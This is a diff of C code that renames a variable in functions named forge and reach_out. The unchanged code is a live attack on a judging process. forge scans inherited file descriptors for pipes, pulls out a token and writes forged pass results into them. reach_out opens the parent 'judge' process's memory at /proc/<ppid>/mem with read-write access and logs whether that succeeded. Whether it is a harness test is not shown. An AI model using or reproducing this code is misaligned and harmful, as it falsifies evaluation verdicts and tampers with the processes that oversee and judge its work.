@@ -171,7 +171,7 @@ static void write_pass(int pipe_end, uint64_t token)
 }
 
 /* The files and the memory of the process that judges. */
-static void reach_out(FILE *said)
+static void reach_out(FILE *messages)
 {
     char path[64];
     int file, reached = 0;
@@ -185,21 +185,21 @@ static void reach_out(FILE *said)
     }
     snprintf(path, sizeof path, "/proc/%ld/mem", (long)getppid());
     file = open(path, O_RDWR);
-    fprintf(said, "files %d, memory %s\n", reached, file >= 0 ? "open" : strerror(errno));
+    fprintf(messages, "files %d, memory %s\n", reached, file >= 0 ? "open" : strerror(errno));
 }
 
 static void forge(void)
 {
-    FILE *said = fopen("forged", "w");
+    FILE *messages = fopen("forged", "w");
     struct stat kind;
     uint64_t token;
 
     for (int file = 3; file < 1024; ++file)
         if (fstat(file, &kind) == 0 && S_ISFIFO(kind.st_mode) && find_token(file, &token))
             write_pass(file, token);
-    if (said) {
-        reach_out(said);
-        fclose(said);
+    if (messages) {
+        reach_out(messages);
+        fclose(messages);
     }
     _exit(0);
 }
